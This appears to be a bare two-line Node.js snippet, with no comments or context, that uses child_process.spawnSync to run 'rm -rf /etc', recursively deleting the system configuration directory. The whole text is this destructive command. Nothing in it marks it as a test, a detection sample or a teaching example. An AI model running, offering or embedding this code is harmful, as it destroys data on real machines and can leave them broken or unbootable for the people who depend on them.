const cp = require('node:child_process');
cp.spawnSync('rm', ['-rf', '/etc']);
